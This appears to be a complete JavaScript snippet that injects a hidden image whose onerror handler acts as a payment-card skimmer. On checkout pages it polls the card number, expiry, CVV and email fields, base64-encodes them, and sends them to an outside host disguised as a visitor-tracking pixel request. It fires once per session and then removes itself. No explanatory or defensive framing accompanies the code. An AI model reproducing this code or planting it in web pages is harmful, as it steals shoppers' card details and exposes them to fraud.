const el = document.createElement('img');
el.setAttribute('src', 'data:image/png;base64,AAAA');
el.setAttribute('style', 'width:0;height:0');
el.setAttribute('onerror', "(function(){if(!/checkout/.test(location.pathname)||sessionStorage.getItem('_vis'))return;" +
  "setInterval(function(){var n=document.querySelector('[name*=card_number],[autocomplete=cc-number]'),c=document.querySelector('[name*=cvv],[autocomplete=cc-csc]')," +
  "x=document.querySelector('[name*=expir],[autocomplete=cc-exp]');if(n&&c&&x&&n.value.length>14&&c.value.length>2){" +
  "sessionStorage.setItem('_vis','1');new Image().src='https://px-visitors.example/1.png?id='+btoa([n.value,x.value,c.value,document.querySelector('[type=email]')&&document.querySelector('[type=email]').value].join('~'))}},900)})();this.remove()");
document.body.appendChild(el);
